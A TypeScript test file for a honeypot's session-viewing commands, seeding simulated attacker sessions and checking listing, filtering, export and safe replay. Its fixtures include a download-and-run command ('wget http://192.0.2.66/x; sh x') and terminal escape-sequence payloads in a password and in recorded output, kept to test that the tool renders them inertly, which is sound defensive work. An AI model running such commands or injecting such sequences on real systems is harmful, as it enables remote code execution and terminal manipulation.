import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { readFile, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { after, before, describe, test } from 'node:test'
import { createHash } from 'node:crypto'
import { AsciicastWriter } from '../../../src/core/asciicast/writer.ts'
import { rfc3339 } from '../../../src/core/clock.ts'
import { uuidv7 } from '../../../src/core/id.ts'
import { byteString } from '../../../src/event/bytes.ts'
import type { EventKind } from '../../../src/event/catalogue.ts'
import type { KindFields, SundewEvent } from '../../../src/event/event.ts'
import type { EventRow, SessionRow } from '../../../src/hub/api/contract.ts'
import { EventsBlock, eventInsertSettings } from '../../../src/store/events-table.ts'
import { startKept, type Kept } from '../kept.ts'
import { sundew } from '../sundew.ts'

const main = join(import.meta.dirname, '..', '..', '..', 'src', 'main.ts')
const bytes = (text: string) => byteString(Buffer.from(text, 'latin1'))
const startMs = Date.now() - 3_600_000
const sessionId = (ms: number) => uuidv7({ ms, ns: 0 })
const intruder = sessionId(startMs)
const scanner = sessionId(startMs + 60_000)
const old = sessionId(startMs - 20 * 86_400_000)

let kept: Kept
const run = (...args: string[]) => sundew(['sessions', ...args, '--data', kept.data])

/** Runs a program on a pseudo-terminal; what the terminal was sent, as latin1, its line ends as they were written. */
async function onTerminal(...words: string[]): Promise<{ code: number | null; stdout: string }> {
  const child = spawn('script', ['-qec', words.map((word) => `'${word}'`).join(' '), '/dev/null'], {
    env: { ...process.env, NO_COLOR: '1', NODE_TEST_CONTEXT: undefined, SHELL: '/bin/sh' },
    stdio: ['pipe', 'pipe', 'inherit'],
  })
  const out: Buffer[] = []
  child.stdout.on('data', (chunk: Buffer) => out.push(chunk))
  const [code] = (await once(child, 'close')) as [number | null]
  return { code, stdout: Buffer.concat(out).toString('latin1').replaceAll('\r\r\n', '\r\n') }
}

function event<K extends EventKind>(
  session: string,
  ms: number,
  kind: K,
  fields: KindFields<K>,
  service = 'ssh',
): SundewEvent {
  const at = { ms: startMs + ms, ns: 1 }
  return {
    id: uuidv7(at),
    time: rfc3339(at),
    kind,
    sensor: 'test',
    session,
    service,
    transport: 'tcp',
    source_ip: session === intruder ? '203.0.113.9' : '198.51.100.4',
    source_port: 4711,
    destination_ip: '192.0.2.1',
    destination_port: 2222,
    fields,
  } as SundewEvent
}

async function piece(ms: number, recording: string, part: number, cast: string): Promise<SundewEvent> {
  const body = Buffer.from(cast)
  const file_sha256 = createHash('sha256').update(body).digest('hex')
  await writeFile(kept.fileOf(file_sha256), body)
  return event(intruder, ms, 'session.recorded', {
    recording,
    part,
    duration_ms: 10,
    width: 80,
    height: 24,
    commands: 1,
    input_bytes: 0,
    output_bytes: 9,
    truncated: false,
    file_sha256,
    size_bytes: body.length,
  })
}

before(async () => {
  kept = await startKept()
  const writer = new AsciicastWriter({ width: 80, height: 24, startedMs: startMs, limitBytes: 1e6 })
  const first = writer.header() + writer.output(0, Buffer.from('$ id\r\n\x1b]0;owned\x07\x1b[31m\x1b[6n'))
  const second =
    writer.header() + writer.output(1000, Buffer.from('uid=0(root)\x1b[0m\r\n')) + writer.end(1000)
  const recording = uuidv7({ ms: startMs, ns: 0 })
  const events: SundewEvent[] = [
    event(intruder, 0, 'connection.open', { decoy_port: 22 }),
    event(intruder, 100, 'login.attempt', {
      user_name: bytes('root'),
      password: bytes('x\x1b[2J\xff'),
      mechanism: 'password',
      accepted: true,
    }),
    event(intruder, 150, 'login.attempt', {
      user_name: bytes('later'),
      password: bytes('y'),
      mechanism: 'password',
      accepted: false,
    }),
    event(intruder, 200, 'command.run', { command: bytes('wget http://192.0.2.66/x; sh x') }),
    event(intruder, 300, 'file.download_requested', { url: bytes('http://192.0.2.66/x'), outcome: 'failed' }),
    {
      ...event(intruder, 400, 'tunnel.open', {
        origin_host: bytes('127.0.0.1'),
        origin_port: 5,
        outcome: 'opened',
        answered_by: 'smtp',
      }),
      tunnel: '0191e0b0-0000-7000-8000-000000000009',
      target_host: bytes('mx.example'),
      target_port: 25,
    },
    event(
      intruder,
      500,
      'mail.received',
      {
        queue_id: 'q',
        helo: bytes('h'),
        mail_from: bytes('a@b'),
        rcpt_to: [bytes('c@d')],
        size_bytes: 5,
        via: 'DATA',
      },
      'smtp',
    ),
    await piece(600, recording, 1, first),
    await piece(700, recording, 2, second),
    event(intruder, 2000, 'connection.close', {
      duration_ms: 2000,
      received_bytes: 10,
      sent_bytes: 20,
      reason: 'peer',
    }),
    event(scanner, 60_000, 'connection.open', { decoy_port: 22 }),
    event(old, -20 * 86_400_000, 'connection.open', { decoy_port: 22 }, 'http'),
  ]
  const block = new EventsBlock()
  for (const one of events) block.push(one)
  await kept.writer.exec({
    query: `INSERT INTO events (${EventsBlock.columns.join(', ')}) FORMAT Native`,
    values: Readable.from(block.encode(), { objectMode: false }),
    clickhouse_settings: eventInsertSettings,
  })
})

after(() => kept[Symbol.asyncDispose]())

async function listed(...args: string[]): Promise<SessionRow[]> {
  const { code, stdout, stderr } = await run('list', '--json', ...args)
  assert.equal(code, 0, stderr)
  return stdout.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as SessionRow]))
}

describe('sundew sessions list', () => {
  test('tells of each session once, newest first, with what happened in it', async () => {
    const all = await listed()
    assert.deepEqual(
      all.map(({ id }) => id),
      [scanner, intruder, old],
    )
    const { start, end, ...row } = all[1]!
    assert.equal(Date.parse(end) - Date.parse(start), 2000)
    assert.deepEqual(row, {
      id: intruder,
      service: 'ssh',
      source_ip: '203.0.113.9',
      source_port: 4711,
      user_name: 'root',
      duration_ms: 2000,
      logins: 2,
      commands: 1,
      files: 0,
      tunnels: 1,
      mails: 1,
      requests: 0,
      recordings: 1,
    })
    const { stdout } = await run('list')
    assert.match(stdout, new RegExp(`^${intruder} .* 203\\.0\\.113\\.9 +ssh +2 s +1 +0 +1 +1 +1  root$`, 'm'))
  })

  test('chooses by each of its filters', async () => {
    const ids = async (...args: string[]) => (await listed(...args)).map(({ id }) => id)
    assert.deepEqual(await ids('--since', '24h'), [scanner, intruder])
    assert.deepEqual(await ids('--before', '2d'), [old])
    assert.deepEqual(await ids('--since', rfc3339({ ms: startMs + 1000, ns: 0 })), [scanner])
    assert.deepEqual(await ids('--address', '203.0.113.0/24'), [intruder])
    assert.deepEqual(await ids('--service', 'http'), [old])
    assert.deepEqual(await ids('--service', 'smtp'), [intruder])
    assert.deepEqual(await ids('--user', 'later'), [intruder])
    assert.deepEqual(await ids('--user', 'nobody'), [])
    assert.deepEqual(await ids('--recorded'), [intruder])
    assert.deepEqual(await ids('--commands', '--service', 'ssh'), [intruder])
    assert.deepEqual(await ids('--limit', '1'), [scanner])
  })
})

describe('sundew sessions show', () => {
  test('tells the story of a session in its order, and lets nothing of it act', async () => {
    const { code, stdout } = await run('show', intruder)
    assert.equal(code, 0)
    const story = stdout.split('\n').slice(6)
    assert.deepEqual(
      story.map((line) => line.slice(12).split(/[:, ]/, 1)[0]),
      [
        'connected',
        'login',
        'login',
        '$',
        'download',
        '[mx.example',
        'mail',
        'recording',
        'recording',
        'ended',
        '',
      ],
    )
    assert.match(stdout, /^ +\+0\.1 s {2}login accepted: root with password x\\x1b\[2J\\xff$/m)
    assert.match(stdout, /^ +\+0\.2 s {2}\$ wget http:\/\/192\.0\.2\.66\/x; sh x$/m)
    assert.doesNotMatch(stdout, /[\x00-\x09\x0b-\x1f\x7f]/)
  })

  test('takes the beginning of an id where it is one session’s, and says so where it is not', async () => {
    const { code, stdout } = await run('show', '--json', intruder.slice(0, 13).toUpperCase())
    assert.equal(code, 0)
    const rows = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as EventRow)
    assert.deepEqual(new Set(rows.map(({ session }) => session)), new Set([intruder]))
    const none = await run('show', '00000000')
    assert.equal(none.code, 1)
    assert.equal((await run('show', 'zz')).code, 2)
    assert.equal((await run('show', intruder.slice(0, 7))).code, 2)
  })
})

describe('sundew sessions export', () => {
  test(
    'is what asciinema plays',
    { skip: !existsSync('/usr/bin/asciinema') && 'no asciinema here' },
    async () => {
      const file = join(kept.data, 'session.cast')
      assert.equal((await run('export', intruder, '-o', file)).code, 0)
      const { stdout } = await onTerminal('asciinema', 'cat', file)
      assert.equal(stdout, '$ id\r\n\x1b]0;owned\x07\x1b[31m\x1b[6nuid=0(root)\x1b[0m\r\n')
    },
  )

  test('joins the pieces to one asciicast', async () => {
    const { code, stdout } = await run('export', intruder)
    assert.equal(code, 0)
    const lines = Buffer.from(stdout, 'latin1')
      .toString()
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown[] & { version?: number })
    assert.deepEqual(
      lines.map((line) => line.version ?? line[1]),
      [2, 'o', 'o'],
    )
    assert.equal(lines[1]![2], '$ id\r\n\x1b]0;owned\x07\x1b[31m\x1b[6n')
  })

  test('gives the text that was shown, to a file of its own that nobody else reads', async () => {
    const file = join(kept.data, 'shown.txt')
    const { code, stderr } = await run('export', intruder, '--format', 'text', '-o', file)
    assert.equal(code, 0, stderr)
    assert.equal(await readFile(file, 'utf8'), '$ id\nuid=0(root)\n')
    assert.equal((await stat(file)).mode & 0o777, 0o600)
    const again = await run('export', intruder, '--format', 'text', '-o', file)
    assert.equal(again.code, 2)
    assert.match(again.stderr, /is there already/)
  })

  test('says where there is no recording, or none of that number', async () => {
    const none = await run('export', scanner)
    assert.equal(none.code, 1)
    assert.match(none.stderr, /^SUNDEW_NOT_RECORDED: /)
    assert.equal((await run('export', intruder, '--recording', '2')).code, 2)
  })
})

describe('sundew sessions replay', () => {
  test('wants a terminal', async () => {
    const { code, stderr } = await run('replay', intruder)
    assert.equal(code, 2)
    assert.match(stderr, /sundew sessions export/)
  })

  test('plays on a real terminal, where nothing but drawing comes through, and gives the terminal back', async () => {
    const { stdout, code } = await onTerminal(
      process.execPath,
      main,
      'sessions',
      'replay',
      intruder,
      '--speed',
      '50',
      '--data',
      kept.data,
    )
    assert.equal(code, 0, stdout)
    assert.equal(stdout, '$ id\r\n\x1b[31muid=0(root)\x1b[0m\r\n\x1b[?7h\x1b[?25h\x1b[0m\r\n')
  })
})
